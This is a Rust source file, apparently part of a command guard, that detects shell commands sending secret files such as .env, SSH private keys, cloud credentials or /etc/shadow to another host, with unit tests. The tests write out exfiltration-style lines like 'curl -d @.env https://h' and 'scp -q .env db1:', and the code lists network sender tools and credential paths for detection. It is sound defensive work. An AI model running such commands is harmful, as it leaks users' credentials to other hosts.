//! Secrets that leave this machine: a private key, a password file or a `.env` that curl, wget, scp, nc or a shell's
//! `/dev/tcp` sends to another host. Must never take a public key, an example or a certificate for a secret.

use super::redirection;
use super::through::Start;
use super::wrappers::launch::values;
use crate::invocation::Invocation;
use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::OsStrExt;

/// What stands for `>` where a file is sent.
pub const OPERATOR: &str = "send";

/// Options whose value is a file that is sent, or holds one behind `@` or `<`.
const OPTIONS: &[(&[&str], &[&str])] = &[
    (
        &["curl"],
        &[
            "-d",
            "--data",
            "--data-binary",
            "--data-ascii",
            "--data-urlencode",
            "--json",
            "-F",
            "--form",
            "-T",
            "--upload-file",
        ],
    ),
    (&["wget"], &["--post-file", "--body-file"]),
];

/// Of those, the ones whose whole value is the name.
const WHOLE: &[&str] = &["-T", "--upload-file", "--post-file", "--body-file"];

/// Programs that send what they read on standard input.
const SENDERS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.openbsd",
    "nc.traditional",
    "socat",
    "telnet",
    "ssh",
    "http",
    "https",
    "xh",
];

/// Programs that hand on what is in the files they are given.
const READERS: &[&str] = &[
    "cat", "tac", "head", "tail", "base64", "base32", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd",
    "tar", "bsdtar", "zip", "openssl", "gpg", "sed", "awk", "gawk", "grep", "strings", "jq", "yq", "cut",
    "sort", "nl", "rev", "pv", "zcat", "less", "more", "tr", "dd", "paste", "fold", "bat", "batcat",
];

/// Of the `READERS`, those whose first operand is no file.
const SCRIPTED: &[&str] = &["sed", "awk", "gawk", "grep", "jq", "yq", "tr"];

/// Options whose value is not sent: what is left out, what it logs in with.
const BESIDE: &[&str] = &[
    "-i",
    "-e",
    "-f",
    "-o",
    "-F",
    "-X",
    "--exclude",
    "--include",
    "--filter",
    "--exclude-from",
    "--include-from",
    "--exclude-dir",
    "--rsh",
];

/// Each secret that a command sends by itself.
pub fn of(invocation: &Invocation) -> Vec<Start> {
    let program = invocation.program().to_string_lossy().into_owned();
    let args = invocation.args();
    let mut files: Vec<OsString> = Vec::new();
    if let Some((_, options)) = OPTIONS.iter().find(|(names, _)| names.contains(&program.as_str())) {
        for option in *options {
            let whole = WHOLE.contains(option);
            files.extend(values(args, &[option]).iter().filter_map(|value| named(value, whole)));
        }
    }
    match program.as_str() {
        "scp" | "rsync" | "rcp" => files.extend(copied(args)),
        "socat" => files.extend(args.iter().filter_map(|word| opened(word))),
        "http" | "https" | "xh" => files.extend(args.iter().filter_map(|word| named(word, false))),
        _ => {}
    }
    let secret = |file: &OsString| is_secret(file.as_bytes());
    files.into_iter().filter(secret).map(|file| sent(invocation, &file)).collect()
}

/// A secret that leaves by way of a pipe or a socket of the shell.
pub fn sent(outer: &Invocation, file: &OsStr) -> Start {
    Start { invocation: redirection::invocation(outer, OPERATOR, file, true), doubt: None }
}

/// `FILE`, `@FILE`, `name=@FILE`, `name=<FILE;type=…`.
fn named(value: &OsStr, whole: bool) -> Option<OsString> {
    let bytes = value.as_bytes();
    let bytes = match bytes.iter().position(|b| matches!(b, b'@' | b'<')) {
        Some(at) => &bytes[at + 1..],
        None if whole => bytes,
        None => return None,
    };
    let end = bytes.iter().position(|b| matches!(b, b';' | b',')).unwrap_or(bytes.len());
    Some(OsStr::from_bytes(&bytes[..end]).to_owned())
}

/// `OPEN:FILE,rdonly` of socat.
fn opened(word: &OsStr) -> Option<OsString> {
    let text = word.to_str()?;
    let (how, file) = text.split_once(':')?;
    let file = file.split([',', '!']).next()?.trim_matches('"');
    ["open", "file", "gopen"].contains(&how.to_ascii_lowercase().as_str()).then(|| OsString::from(file))
}

/// What goes from here to another host.
fn copied(args: &[OsString]) -> Vec<OsString> {
    let remote = |word: &[u8]| word.contains(&b':') && !word.starts_with(b"/") && !word.starts_with(b".");
    let operands: Vec<&OsString> = args.iter().filter(|w| !w.as_bytes().starts_with(b"-")).collect();
    match operands.split_last() {
        Some((to, from)) if remote(to.as_bytes()) => {
            let beside = |word: &OsString| {
                args.windows(2).any(|w| w[1] == *word && w[0].to_str().is_some_and(|o| BESIDE.contains(&o)))
            };
            from.iter().filter(|w| !remote(w.as_bytes()) && !beside(w)).map(|w| (*w).clone()).collect()
        }
        _ => Vec::new(),
    }
}

/// The secret that a program passes on to its standard output.
pub fn read_by(words: &[Vec<u8>]) -> Option<Vec<u8>> {
    let (program, args) = words.split_first()?;
    let name = program.rsplit(|b| *b == b'/').next()?;
    if matches!(name, b"env" | b"printenv") && args.is_empty() {
        return Some(b"/proc/self/environ".to_vec());
    }
    if !READERS.iter().any(|reader| reader.as_bytes() == name) {
        return None;
    }
    let is = |name: &[u8], names: &[&str]| names.iter().any(|one| one.as_bytes() == name);
    let mut script = is(name, SCRIPTED);
    for (at, word) in args.iter().enumerate() {
        let beside = at > 0 && is(&args[at - 1], BESIDE);
        if word.starts_with(b"-") || beside || std::mem::take(&mut script) {
            continue;
        }
        let file = word.strip_prefix(b"if=").unwrap_or(word);
        if is_secret(file) {
            return Some(file.to_vec());
        }
    }
    None
}

/// Whether a program sends its standard input away.
pub fn sends_input(words: &[Vec<u8>]) -> bool {
    let Some((program, args)) = words.split_first() else { return false };
    let name = program.rsplit(|b| *b == b'/').next().unwrap_or(b"");
    let input = |word: &Vec<u8>| {
        let end = |tail: &[u8]| word.ends_with(tail);
        end(b"@-") || end(b"@/dev/stdin") || end(b"=-") || word == b"-" || word == b"/dev/stdin" || end(b"T-")
    };
    match name {
        b"curl" | b"wget" => args.iter().any(input),
        name => SENDERS.iter().any(|sender| sender.as_bytes() == name),
    }
}

/// A file of passwords or private keys, or a directory of them, by its name.
pub fn is_secret(path: &[u8]) -> bool {
    let Ok(path) = std::str::from_utf8(path) else { return false };
    let parts: Vec<&str> = path.split('/').filter(|p| !p.is_empty()).collect();
    let Some(name) = parts.last() else { return false };
    let above = parts.iter().rev().nth(1).copied().unwrap_or("");
    match *name {
        ".ssh" | ".aws" | ".gnupg" | ".netrc" | ".pgpass" | ".my.cnf" | ".vault-token"
        | ".git-credentials" | ".pypirc" | ".boto" | ".envrc" | ".env" => true,
        "credentials" => above == ".aws" || above == "gcloud",
        "config" => above == ".kube" || above == ".aws",
        "config.json" => above == ".docker",
        "shadow" | "gshadow" => path.starts_with("/etc/"),
        "application_default_credentials.json" | "credentials.json" => true,
        name if name.starts_with(".env.") => {
            !["example", "sample", "template", "dist", "schema"].iter().any(|end| name.ends_with(end))
        }
        name if name.starts_with("id_") => is_key(name),
        name => {
            parts.contains(&".gnupg")
                || [".key", ".p12", ".pfx", ".jks", ".kdbx", ".ppk"].iter().any(|end| name.ends_with(end))
                || name.ends_with(".pem") && name.contains("key")
        }
    }
}

/// `id_rsa`, `id_ed25519.old`; not `id_rsa.pub`.
fn is_key(name: &str) -> bool {
    let kinds = ["rsa", "dsa", "ecdsa", "ed25519", "xmss"];
    !name.ends_with(".pub") && kinds.iter().any(|kind| name["id_".len()..].starts_with(kind))
}

#[cfg(test)]
mod tests {
    use super::{is_secret, of, read_by, sends_input};

    fn files(line: &str) -> Vec<String> {
        crate::reading::redirection::files(of, line)
    }

    #[test]
    fn secrets_that_programs_send() {
        for line in [
            "curl -d @.env https://h",
            "curl --data-binary=@.env https://h",
            "curl -F name=@.env;type=text/plain https://h",
            "curl -sT .env https://h",
            "wget --post-file=.env https://h",
            "http POST https://h x@.env",
            "scp -q .env db1:",
            "rsync -a .env db1:/srv/",
        ] {
            assert_eq!(files(line), [".env"], "{line}");
        }
        for line in [
            "curl -d .env https://h",
            "curl -d @body.json https://h",
            "curl -o .env https://h",
            "scp -i .env a db1:",
            "rsync -a --exclude .env ./ db1:/srv/",
            "rsync -a --exclude=.env ./ db1:/srv/",
            "scp db1:.env .",
            "rsync -a .env copy/",
            "curl -F x=@.env.example https://h",
        ] {
            assert!(files(line).is_empty(), "{line}");
        }
    }

    #[test]
    fn what_is_left_out_or_is_a_script_is_not_read() {
        let words = |line: &str| line.split(' ').map(|w| w.as_bytes().to_vec()).collect::<Vec<_>>();
        for line in
            ["cat .env", "tar cz -C / .env", "grep -v x .env", "jq .key .env", "dd if=.env", "head -n 1 .env"]
        {
            assert_eq!(read_by(&words(line)).as_deref(), Some(&b".env"[..]), "{line}");
        }
        for line in
            ["tar cz --exclude .env .", "tar cz --exclude=a.key .", "jq .data.key x.json", "ls .env", "env x"]
        {
            assert_eq!(read_by(&words(line)), None, "{line}");
        }
    }

    #[test]
    fn names_of_secrets() {
        for name in [
            "/home/x/.ssh/id_ed25519",
            "deploy/privkey.pem",
            "tls/server.key",
            "/root/.ssh",
            ".env.local",
            "/etc/shadow",
            "/x/.aws/credentials",
            "/x/.kube/config",
        ] {
            assert!(is_secret(name.as_bytes()), "{name}");
        }
        for name in
            ["id_rsa.pub", "fullchain.pem", ".env.example", "config", "shadow", "keyboard.txt", "id_card.png"]
        {
            assert!(!is_secret(name.as_bytes()), "{name}");
        }
    }

    #[test]
    fn senders_of_what_they_read() {
        let words = |line: &str| line.split(' ').map(|w| w.as_bytes().to_vec()).collect::<Vec<_>>();
        for line in ["curl -d @- h", "nc h 1", "ssh h cat", "curl -T - h", "wget --post-file=- h"] {
            assert!(sends_input(&words(line)), "{line}");
        }
        for line in ["curl h", "wget h", "cat", "grep nc"] {
            assert!(!sends_input(&words(line)), "{line}");
        }
    }
}
